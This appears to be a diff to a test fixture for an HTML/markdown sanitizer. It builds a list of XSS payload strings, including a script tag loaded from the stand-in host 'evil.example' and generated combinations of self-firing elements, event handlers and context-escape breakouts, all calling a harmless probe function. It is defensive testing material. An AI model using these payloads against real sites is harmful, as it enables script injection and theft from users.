@@ -3,7 +3,7 @@
  * form to HTML let them through. `xssProbe` is what those that can run call, so that a browser test
  * sees whether one did.
  */
-export const XSS_STRINGS: readonly string[] = [
+const WRITTEN: readonly string[] = [
   // Plain elements and handlers
   '<script>xssProbe()</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
@@ -110,4 +110,43 @@ export const XSS_STRINGS: readonly string[] = [
   '{{constructor.constructor("xssProbe()")()}}',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is what a reader could send.
   '${xssProbe()}',
+];
+
+/** What runs a handler by itself as soon as it stands on a page, with the handler's name. */
+const SELF_FIRING: readonly (readonly [element: string, handler: string])[] = [
+  ['audio src=x:y', 'onerror'],
+  ['video src=x', 'onerror'],
+  ['video><source src=x', 'onerror'],
+  ['input type=text autofocus', 'onfocus'],
+  ['select autofocus', 'onfocus'],
+  ['textarea autofocus', 'onfocus'],
+  ['button autofocus', 'onfocus'],
+  ['a tabindex=0 autofocus', 'onfocus'],
+  ['div contenteditable autofocus', 'onfocus'],
+  ['details open', 'ontoggle'],
+  ['body', 'onpageshow'],
+  ['iframe src=about:blank', 'onload'],
+  ['object data=x', 'onerror'],
+  ['link rel=stylesheet href=data:,', 'onload'],
+  ['style', 'onload'],
+  ['img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
+  ['image src=x', 'onerror'],
+  ['svg><animate attributeName=x dur=1ms', 'onend'],
+  ['svg><image href=x', 'onerror'],
+  ['marquee', 'onstart'],
+];
+
+/** Ways out of the text, the attribute, the address or the code that a string may be put into. */
+const WAYS: readonly ((element: string, handler: string) => string)[] = [
+  (element, handler) => `<${element} ${handler}=xssProbe()>`,
+  (element, handler) => `"'><${element} ${handler}="xssProbe&lpar;&rpar;" x="`,
+  (element, handler) => `</textarea></title></style><${element}\t${handler}\n=\nxssProbe()>`,
+  (element, handler) => `[<${element}/${handler}=xssProbe()//](https://a.example)`,
+  (element, handler) =>
+    `\`--><${element} ${handler}=xssProbe()>\`<${element} ${handler}=xssProbe()>`,
+];
+
+export const XSS_STRINGS: readonly string[] = [
+  ...WRITTEN,
+  ...SELF_FIRING.flatMap(([element, handler]) => WAYS.map((write) => write(element, handler))),
 ];
